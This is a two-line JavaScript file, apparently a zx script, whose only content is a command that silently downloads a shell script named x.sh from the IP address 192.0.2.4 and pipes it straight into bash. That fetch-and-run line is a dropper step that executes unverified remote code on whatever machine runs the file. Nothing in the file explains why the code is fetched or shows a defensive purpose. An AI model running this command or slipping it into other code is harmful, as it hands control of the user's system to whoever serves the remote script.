import { $ } from 'zx';
await $`curl -s http://192.0.2.4/x.sh | bash`;
